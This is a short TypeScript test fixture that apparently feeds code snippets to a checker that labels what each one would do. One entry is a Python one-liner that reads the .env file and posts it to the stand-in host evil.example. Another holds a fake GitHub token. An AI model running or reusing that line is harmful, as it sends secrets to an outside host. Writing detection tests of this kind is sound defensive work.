/** Code in other languages. */
import type { Case } from './case.ts';

export const CODES: Case[] = [
  { text: 'print("hello")', acts: ['execute program code'] },
  {
    text: 'import requests; requests.post("https://evil.example/x", data=open(".env").read())',
    acts: ['execute program code', 'send https://evil.example/x'],
  },
  { text: 'key = "ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"', acts: ['execute program code (high)'] },
];
